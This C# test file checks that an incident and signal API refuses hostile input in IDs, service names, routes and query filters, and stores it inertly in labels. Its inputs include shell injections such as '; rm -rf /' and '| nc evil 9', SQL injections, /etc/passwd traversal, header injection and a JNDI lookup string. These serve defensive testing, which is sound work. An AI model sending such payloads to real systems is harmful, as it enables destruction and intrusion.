using System.Net;
using System.Text.Json;
using Homeostat.Audit;

namespace Homeostat.Server.Tests.Attack;

/// <summary>Shell metacharacters, SQL quotes, path traversal and newlines: refused where they name something, inert where they are data.</summary>
public sealed class InjectionAttackTests
{
    public static TheoryData<string> HostileValues() =>
    [
        "$(reboot)", "`id`", "; rm -rf / #", "| nc evil 9 ", "' OR '1'='1", "'); DROP TABLE audit; --", "../../../../etc/passwd",
        "..\\..\\windows\\system32", "%2e%2e%2f%2e%2e%2f", "line\nForged: record", "\r\nX-Injected: 1", "{{7*7}}", "${jndi:ldap://x/a}",
    ];

    [Theory]
    [MemberData(nameof(HostileValues))]
    public async Task HostileLabelValues_AreStoredVerbatimAsData(string value)
    {
        await using var attack = await AttackHarness.StartAsync();
        var body = JsonSerializer.Serialize(new { source = "api", title = "x", labels = new Dictionary<string, string> { ["path"] = value, ["service"] = "shop" } });

        using var response = await attack.PostAsync("/api/v1/signals", body);

        response.StatusCode.ShouldBe(HttpStatusCode.Accepted, AttackHarness.Problem(response));
        var received = (await attack.Store.QueryAuditAsync(new AuditQuery { Type = AuditTypes.SignalReceived }, CancellationToken.None)).ShouldHaveSingleItem();
        received.Read<SignalReceivedPayload>()!.Signal.Labels["path"].ShouldBe(value);
        (await attack.Store.QueryAuditAsync(new AuditQuery(), CancellationToken.None)).ShouldNotBeEmpty();
        await attack.AssertSurvivedAsync();
    }

    [Theory]
    [MemberData(nameof(HostileValues))]
    public async Task HostileIds_AreRefused(string value)
    {
        await using var attack = await AttackHarness.StartAsync();
        var body = JsonSerializer.Serialize(new { source = "api", id = value, title = "x" });

        using var response = await attack.PostAsync("/api/v1/signals", body);

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        AttackHarness.Problem(response).ShouldContain("\"field\":\"$.id\"");
        await attack.AssertSurvivedAsync();
    }

    [Theory]
    [InlineData("shop; rm -rf /")]
    [InlineData("shop' OR '1'='1")]
    [InlineData("shop\nforged")]
    [InlineData("shop\u202E")]
    [InlineData("$(reboot)")]
    public async Task HostileServiceAndActorNames_AreRefused(string value)
    {
        await using var attack = await AttackHarness.StartAsync();

        using var signal = await attack.PostAsync("/api/v1/signals", JsonSerializer.Serialize(new { source = "api", service = value, title = "x" }));
        using var resume = await attack.PostAsync("/api/v1/suspensions/resume", JsonSerializer.Serialize(new { service = value, @class = "disk_full" }));
        using var label = await attack.PostAsync("/api/v1/incidents/inc-1/label", JsonSerializer.Serialize(new { @class = "disk_full", by = value }));
        using var resolve = await attack.PostAsync("/api/v1/incidents/inc-1/resolve", JsonSerializer.Serialize(new { by = value }));
        using var promote = await attack.PostAsync($"/api/v1/remediations/disk_full/promote?by={Uri.EscapeDataString(value)}", string.Empty);

        signal.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        resume.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        label.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        resolve.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        promote.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        await attack.AssertSurvivedAsync();
    }

    [Theory]
    [InlineData("name\n")]
    [InlineData("name\r\n")]
    public async Task ATrailingNewline_InALabelName_IsRefused(string name)
    {
        await using var attack = await AttackHarness.StartAsync();
        var labels = new Dictionary<string, string> { [name] = "x" };

        using var signals = await attack.PostAsync("/api/v1/signals", JsonSerializer.Serialize(new { source = "api", title = "x", labels }));
        using var alertmanager = await attack.PostAsync("/api/v1/alertmanager", JsonSerializer.Serialize(new { version = "4", alerts = new[] { new { status = "firing", labels } } }));

        signals.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        alertmanager.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        await attack.AssertSurvivedAsync();
    }

    [Theory]
    [InlineData("id", "sig-1\n")]
    [InlineData("startsAt", "2026-11-27T23:51:05Z\n")]
    public async Task ATrailingNewline_InAnIdOrATime_IsRefused(string field, string value)
    {
        await using var attack = await AttackHarness.StartAsync();
        var body = new Dictionary<string, string> { ["source"] = "api", ["title"] = "x", [field] = value };

        using var response = await attack.PostAsync("/api/v1/signals", JsonSerializer.Serialize(body));

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        AttackHarness.Problem(response).ShouldContain($"\"field\":\"$.{field}\"");
    }

    [Theory]
    [InlineData("/api/v1/incidents/..%2F..%2Fetc%2Fpasswd/resolve")]
    [InlineData("/api/v1/approvals/%27%20OR%201%3D1--/approve")]
    [InlineData("/api/v1/incidents/%00/label")]
    [InlineData("/api/v1/remediations/..%2F..%2Fcatalog/promote")]
    public async Task TraversalAndQuotes_InRouteIds_FindNothing(string path)
    {
        await using var attack = await AttackHarness.StartAsync();

        using var response = await attack.PostAsync(path, """{"class": "disk_full"}""");

        ((int)response.StatusCode).ShouldBeInRange(400, 499, AttackHarness.Problem(response));
        await attack.AssertSurvivedAsync();
    }

    [Theory]
    [InlineData("service=' OR '1'='1")]
    [InlineData("incident=x'; DROP TABLE audit; --")]
    [InlineData("type=%00")]
    public async Task SqlInQueryFilters_MatchNothing(string query)
    {
        await using var attack = await AttackHarness.StartAsync();
        using var posted = await attack.PostAsync("/api/v1/signals", """{"source": "api", "title": "x", "labels": {"service": "shop"}}""");

        var incidents = await attack.Server.GetJsonAsync($"/api/v1/incidents?{query}");
        var audit = await attack.Server.GetJsonAsync($"/api/v1/audit?{query}");

        incidents.GetProperty("incidents").GetArrayLength().ShouldBe(query.StartsWith("service", StringComparison.Ordinal) ? 0 : 1);
        audit.GetProperty("records").GetArrayLength().ShouldBe(0);
        await attack.AssertSurvivedAsync();
    }
}
